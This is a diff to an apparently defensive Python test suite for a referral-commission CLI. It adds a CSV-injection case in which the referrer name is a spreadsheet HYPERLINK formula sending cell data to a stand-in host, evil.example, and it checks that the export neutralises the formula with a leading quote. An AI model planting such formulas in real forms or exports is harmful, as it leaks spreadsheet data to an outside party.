@@ -34,7 +34,9 @@ def refused(result: Result, fragment: str) -> None:
 
 
 async def test_walk_a_referral_through_every_step(cli: Cli, tmp_path: Path) -> None:
-    submitted = await cli("submit", str(write_submission(tmp_path)))
+    # A name typed into the public form as a spreadsheet formula (CSV injection).
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Claire")'
+    submitted = await cli("submit", str(write_submission(tmp_path, **{"referrer.name": formula})))
     assert submitted.code == 0, submitted
     rid = submitted.out.strip()
     assert rid.startswith("R-")
@@ -107,7 +109,9 @@ async def test_walk_a_referral_through_every_step(cli: Cli, tmp_path: Path) -> N
         "updated_at",
     }
     exported = (await cli("commissions", "--status", "paid", "--csv")).out
-    assert rid in [r["referral_id"] for r in csv.DictReader(io.StringIO(exported))]
+    [line] = [r for r in csv.DictReader(io.StringIO(exported)) if r["referral_id"] == rid]
+    assert line["referrer_name"] == f"'{formula}"  # shown as text, never run
+    assert line["amount"] == "18000.00"
 
 
 async def test_negative_branches(cli: Cli, tmp_path: Path) -> None:
